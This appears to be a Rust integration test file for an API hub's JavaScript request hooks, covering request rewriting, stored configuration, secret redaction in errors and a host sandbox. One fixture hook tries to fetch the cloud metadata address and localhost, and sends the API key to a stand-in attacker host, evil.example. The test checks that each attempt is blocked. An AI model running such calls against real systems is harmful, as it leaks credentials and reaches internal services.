//! Hooks around hub calls, over HTTP: the definition that the description of elements works through,
//! with more hooks, and a vendor that shows what it was sent.

use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::{Request, State};
use axum::response::{IntoResponse, Response};
use bunsen_test_macros::database_test;
use http_body_util::BodyExt;
use tempfile::TempDir;
use tokio::net::TcpListener;

use super::*;
use crate::answer::Answer;
use crate::database::TestDatabase;
use crate::server::{TestOptions, TestServer};

/// Begins a session, and counts.
const LOGS_IN: &str =
    "const visits = Number(configuration.visits) + 1; done({configuration: {visits}})";

const BASE: &str = "/elements/api-v2";

/// Method, path with query, header `x-lark-key`, header `x-global`, body.
type Seen = (String, String, String, String, String);

#[derive(Clone, Default)]
struct Vendor(Arc<Mutex<Vec<Seen>>>);

impl Vendor {
    fn seen(&self) -> Vec<Seen> {
        std::mem::take(&mut self.0.lock().expect("the calls"))
    }
}

async fn answer(State(vendor): State<Vendor>, request: Request) -> Response {
    let (head, body) = request.into_parts();
    let body = body.collect().await.expect("a body").to_bytes();
    let header = |name: &str| {
        let value = head.headers.get(name);
        value.map_or(String::new(), |value| {
            value.to_str().expect("text").to_owned()
        })
    };
    let target = head
        .uri
        .path_and_query()
        .expect("a path")
        .as_str()
        .to_owned();
    vendor.0.lock().expect("the calls").push((
        head.method.to_string(),
        target.clone(),
        header("x-lark-key"),
        header("x-global"),
        String::from_utf8_lossy(&body).into_owned(),
    ));
    let path = head.uri.path();
    if path == "/v3/down" {
        return (axum::http::StatusCode::SERVICE_UNAVAILABLE, "not now").into_response();
    }
    if path == "/v3/cut" {
        let broken = std::io::Error::other("the vendor breaks off");
        let pieces = futures_util::stream::iter([Err::<Vec<u8>, _>(broken)]);
        return axum::body::Body::from_stream(pieces).into_response();
    }
    let json = match path {
        "/v3/people" if head.method == "GET" => {
            json!({"result": {"people": [{"id": "1", "full_name": "Ida Berg", "size": 3}]}})
        }
        "/v3/token" => json!({"token": "fresh"}),
        _ => json!({"result": {"person": {"id": "77", "full_name": "Ida Berg"}}}),
    };
    ([("content-type", "application/json")], json.to_string()).into_response()
}

fn hook(kind: &str, body: &str) -> Value {
    json!({"type": kind, "mimeType": "application/javascript", "body": body})
}

fn resource(method: &str, path: &str, vendor: &str, hooks: Value, more: Value) -> Value {
    let mut resource = json!({"method": method, "path": path, "vendorPath": vendor, "type": "api",
                              "kind": "eb", "hooks": hooks});
    let members = resource.as_object_mut().expect("an object");
    members.extend(more.as_object().expect("an object").clone());
    resource
}

fn definition() -> Value {
    let filter = "const add = {};
        (request_expression || []).forEach(e => {
          if (e.operator === '=') { add[e.attribute] = e.value; }
          if (e.operator === '>=' && e.attribute === 'changed_at') { add.changed_since = e.value; }
        });
        done({ request_vendor_parameters: Object.assign({}, request_vendor_parameters, add) });";
    let query = |name: &str, vendor: &str, to: &str| json!({"name": name, "type": "query", "vendorName": vendor, "vendorType": to});
    let mut definition = json!({
        "id": 9300, "name": "Larkpost", "key": "larkpost", "hub": "crm",
        "authentication": {"type": "custom"},
        "configuration": [
            {"key": "base.url", "name": "Base URL", "type": "TEXTFIELD_1000", "defaultValue": "https://{larkpost.tenant}.larkpost.example/v3", "required": true},
            {"key": "larkpost.tenant", "name": "Tenant", "type": "TEXTFIELD_64", "required": true},
            {"key": "larkpost.key", "name": "Key", "type": "PASSWORD", "required": true},
            {"key": "visits", "name": "Visits", "type": "TEXTFIELD_32", "defaultValue": "0"},
            {"key": "pagination.type", "name": "Paging", "type": "TEXTFIELD_32", "defaultValue": "offset"},
            {"key": "pagination.max", "name": "Largest", "type": "TEXTFIELD_32", "defaultValue": "50"}
        ],
        "parameters": [
            {"name": "larkpost.key", "type": "configuration", "vendorName": "X-Lark-Key", "vendorType": "header"}
        ],
        "hooks": [
            hook("preRequest", "request_vendor_headers['X-Global'] = request_method; done({request_vendor_headers})"),
            {"type": "postRequest", "isLegacy": true, "body": "if (response_headers['X-Order']) { return {response_headers: {'X-Order': response_headers['X-Order'] + ' global'}} }"}
        ],
        "resources": [
            resource("GET", "/contacts", "/people", json!([hook("preRequest", filter)]), json!({
                "rootKey": "|result.people",
                "parameters": [query("page", "start", "query"), query("pageSize", "count", "query"), query("where", "where", "no-op")]})),
            resource("GET", "/contacts/{id}", "/people/{person}", json!([
                hook("postRequest", "const p = response_body.result.person; done({response_body: {result: {person: {name: p.full_name, from: request_path_variables.id}}}})")]), json!({
                "rootKey": "|result.person",
                "parameters": [{"name": "id", "type": "path", "vendorName": "person", "vendorType": "path"}]})),
            resource("POST", "/contacts", "/people", json!([
                hook("preRequest", "done({request_vendor_path: '/people/new', request_vendor_body: {person: request_body}})")]), json!({
                "rootKey": "|result.person",
                "parameters": [{"name": "body", "type": "body", "vendorName": "body", "vendorType": "body", "required": true}]})),
            resource("GET", "/local", "/people", json!([
                hook("preRequest", "done({continue: false, response_body: {never: 'asked'}, response_headers: {'X-Order': 'own'}})"),
                hook("postRequest", "done({response_body: {...response_body, status: response_status_code, order: response_headers['X-Order']}})")]), json!({})),
            resource("GET", "/visits", "/me", json!([
                hook("postRequest", "const visits = Number(configuration.visits) + 1; done({response_body: {visits}, configuration: {visits, session: 's3cret'}})")]), json!({})),
            resource("GET", "/refused", "/me", json!([hook("postRequest", "done({response_error: 'That person has moved.'})")]), json!({})),
            resource("GET", "/broken", "/me", json!([hook("preRequest", "const a = 1;\nnothing.at.all")]), json!({})),
            resource("GET", "/endless", "/me", json!([hook("preRequest", "request_headers.toString = 1")]), json!({})),
            resource("GET", "/tells", "/me", json!([hook("preRequest", "throw new Error('with ' + configuration['larkpost.key'] + ' / ' + encodeURIComponent(configuration['larkpost.key']))")]), json!({})),
            resource("GET", "/reports", "/me", json!([hook("postRequest", "done({response_error: 'It says ' + configuration['larkpost.key']})")]), json!({})),
            resource("GET", "/ends-long", "/me", json!([hook("preRequest", "throw new Error('.'.repeat(985) + configuration['larkpost.key'])")]), json!({})),
            resource("GET", "/down", "/down", json!([hook("preRequest", LOGS_IN)]), json!({})),
            resource("GET", "/cut", "/cut", json!([hook("preRequest", LOGS_IN)]), json!({})),
            resource("GET", "/halfway", "/me", json!([hook("preRequest", LOGS_IN), hook("preRequest", "done({response_error: 'no'})")]), json!({})),
            resource("GET", "/fetched", "/me", json!([hook("preRequest", "
                const https = require('https'), all = {};
                const ask = (name, url) => new Promise(next => https.get(url, a => { let b = ''; a.on('data', d => b += d).on('end', () => { all[name] = b; next() }) })
                  .on('error', e => { all[name] = e.message; next() }));
                ask('own', 'https://acme.larkpost.example/v3/token')
                  .then(() => ask('literal', 'https://169.254.169.254/latest/meta-data'))
                  .then(() => ask('local', 'https://localhost/'))
                  .then(() => ask('plain', 'http://acme.larkpost.example/'))
                  .then(() => ask('other', 'https://evil.example/?k=' + configuration['larkpost.key']))
                  .then(() => done({continue: false, response_body: all}))")]), json!({}))
        ],
        "bunsen": {"hosts": ["*.larkpost.example"]}
    });
    number(&mut definition, &mut 9_300_000);
    definition
}

/// Gives every part an id.
fn number(value: &mut Value, next: &mut i64) {
    for list in ["configuration", "parameters", "hooks", "resources"] {
        for part in value[list].as_array_mut().into_iter().flatten() {
            *next += 1;
            part["id"] = json!(*next);
            number(part, next);
        }
    }
}

struct Place {
    server: TestServer,
    vendor: Vendor,
    instance: Value,
    header: String,
    _definitions: TempDir,
}

impl Place {
    async fn start(database: TestDatabase) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let element = folder.path().join("larkpost");
        std::fs::create_dir(&element).expect("a folder");
        std::fs::write(element.join("element.json"), definition().to_string()).expect("a file");
        let vendor = Vendor::default();
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a free port");
        let url = format!("http://{}", listener.local_addr().expect("bound"));
        let router = Router::new().fallback(answer).with_state(vendor.clone());
        tokio::spawn(async move { axum::serve(listener, router).await });
        let options = TestOptions {
            elements: Some(folder.path().to_owned()),
            vendors: Some(url),
            ..TestOptions::default()
        };
        let server = TestServer::start_with(database, options).await;
        let body = json!({"element": {"key": "larkpost"}, "name": "ours",
                          "configuration": {"larkpost.tenant": "acme", "larkpost.key": "k1"}});
        let instance = server.create(&server.admin, &body).await;
        let token = instance["token"].as_str().expect("a token");
        let header = server.admin.with_token(token);
        vendor.seen();
        Self {
            server,
            vendor,
            instance,
            header,
            _definitions: folder,
        }
    }

    fn request(&self, method: &str, path: &str) -> reqwest::RequestBuilder {
        let request = self.server.request(method, &format!("{BASE}{path}"));
        request.header("authorization", &self.header)
    }

    async fn get(&self, path: &str) -> Answer {
        Answer::of(self.request("GET", path)).await
    }
}

#[database_test]
async fn hooks_change_what_the_vendor_is_asked(database: TestDatabase) {
    let place = Place::start(database).await;
    let answer = place
        .get("/hubs/crm/contacts?page=3&pageSize=20&where=full_name%3D'Ida%20Berg'")
        .await;
    assert_eq!(answer.status, 200, "{answer:?}");
    assert_eq!(answer.json()[0]["full_name"], "Ida Berg");
    let (method, target, key, global, _) = place.vendor.seen().remove(0);
    assert_eq!(
        (method.as_str(), key.as_str(), global.as_str()),
        ("GET", "k1", "GET")
    );
    assert!(target.starts_with("/v3/people?"), "{target}");
    for pair in ["start=40", "count=20", "full_name=Ida+Berg"] {
        assert!(target.contains(pair), "{target}");
    }

    let sent = json!({"full_name": "Ida Berg"});
    let answer = Answer::of(place.request("POST", "/contacts").json(&sent)).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    let (method, target, _, _, body) = place.vendor.seen().remove(0);
    assert_eq!(
        (method.as_str(), target.as_str()),
        ("POST", "/v3/people/new")
    );
    assert_eq!(body, "{\"person\":{\"full_name\":\"Ida Berg\"}}");
}

#[database_test]
async fn hooks_change_what_the_caller_gets(database: TestDatabase) {
    let place = Place::start(database).await;
    let answer = place.get("/contacts/77").await;
    assert_eq!(
        answer.json(),
        json!({"name": "Ida Berg", "from": "77"}),
        "{answer:?}"
    );

    place.vendor.seen();
    let answer = place.get("/local").await;
    let expected = json!({"never": "asked", "status": 200, "order": "own"});
    assert_eq!(answer.json(), expected, "{answer:?}");
    assert!(place.vendor.seen().is_empty(), "the vendor was asked");

    let answer = place.get("/refused").await;
    assert_eq!(answer.status, 400);
    assert_eq!(answer.json()["message"], "That person has moved.");

    let answer = place.get("/broken").await;
    assert_eq!(answer.status, 500);
    let message = answer.json()["message"].to_string();
    for part in [
        "preRequest hook",
        "larkpost",
        "GET /broken",
        "nothing is not defined",
        "line 2",
    ] {
        assert!(message.contains(part), "{part}: {message}");
    }
    let answer = place.get("/endless").await;
    assert!(
        answer.json()["message"]
            .to_string()
            .contains("'done' was never called")
    );
}

#[database_test]
async fn what_hooks_store_is_there_the_next_time(database: TestDatabase) {
    let place = Place::start(database).await;
    for visits in 1..=3 {
        let answer = place.get("/visits").await;
        assert_eq!(answer.json(), json!({"visits": visits}), "{answer:?}");
    }
    let id = place.instance["id"].as_i64().expect("an id");
    let request = place
        .server
        .request("GET", &format!("{BASE}/instances/{id}"));
    let shown = Answer::of(request.header("authorization", place.server.admin.header())).await;
    let shown = shown.json();
    assert_eq!(shown["configuration"]["visits"], "3");
    assert!(!shown.to_string().contains("s3cret"), "{shown}");
}

#[database_test]
async fn what_a_hook_stores_before_a_call_is_kept_whatever_comes_of_it(database: TestDatabase) {
    let place = Place::start(database).await;
    let id = place.instance["id"].as_i64().expect("an id");
    let visits = async || {
        let request = place
            .server
            .request("GET", &format!("{BASE}/instances/{id}"));
        let shown = Answer::of(request.header("authorization", place.server.admin.header())).await;
        let visits = shown.json()["configuration"]["visits"].clone();
        visits.as_str().and_then(|text| text.parse::<u32>().ok())
    };
    let mut before = visits().await.expect("none yet");
    for path in ["/down", "/cut", "/halfway"] {
        let answer = place.get(path).await;
        assert!(answer.status >= 400, "{path}: {answer:?}");
        let now = visits().await.expect("a number");
        assert!(now > before, "{path} has lost what its hook has stored");
        before = now;
    }
}

#[database_test]
async fn texts_of_hooks_tell_no_secret(database: TestDatabase) {
    let place = Place::start(database).await;
    let id = place.instance["id"].as_i64().expect("an id");
    let secret = "gr33n&tea-secret";
    let change = json!({"configuration": {"larkpost.key": secret}});
    let request = place
        .server
        .request("PATCH", &format!("{BASE}/instances/{id}"));
    let request = request.header("authorization", place.server.admin.header());
    let changed = Answer::of(request.json(&change)).await;
    assert_eq!(changed.status, 200, "{changed:?}");
    for (path, status, kept) in [
        ("/tells", 500, "Error: with"),
        ("/reports", 400, "It says"),
        ("/ends-long", 500, "....."),
    ] {
        let answer = place.get(path).await;
        assert_eq!(answer.status, status, "{path}: {answer:?}");
        let told = answer.json().to_string();
        assert!(told.contains(kept), "{path}: {told}");
        for part in [secret, "gr33n", "%26tea"] {
            assert!(!told.contains(part), "{path}: {told}");
        }
    }
}

#[database_test]
async fn scripts_reach_the_elements_hosts_and_no_others(database: TestDatabase) {
    let place = Place::start(database).await;
    let answer = place.get("/fetched").await;
    let all = answer.json();
    assert_eq!(all["own"], "{\"token\":\"fresh\"}", "{answer:?}");
    for (name, why) in [
        ("literal", "is an address"),
        ("local", "for local use"),
        ("plain", "https"),
        ("other", "is not a host of this element"),
    ] {
        let told = all[name].as_str().expect(name);
        assert!(told.contains(why), "{name}: {told}");
    }
    assert_eq!(
        place.vendor.seen().len(),
        1,
        "only the element's own host was asked"
    );
}
